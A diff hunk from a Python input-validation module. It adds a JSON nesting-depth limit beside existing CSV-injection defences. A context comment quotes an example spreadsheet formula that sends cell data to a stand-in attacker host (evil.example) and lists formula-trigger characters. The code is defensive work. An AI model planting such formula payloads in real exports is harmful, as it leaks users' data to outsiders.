@@ -7,6 +7,8 @@ from collections.abc import Mapping
 # OWASP, CSV injection: a cell starting with one of these is a formula (or becomes one) in Excel, WPS and
 # LibreOffice, e.g. a policy named =HYPERLINK("http://evil.example/?x="&A1,"点击查看").
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# No body of ours nests more than a few levels; a deeper one is an attack on the decoder or the validators.
+MAX_JSON_DEPTH = 32
 
 
 def unstorable(value) -> bool:
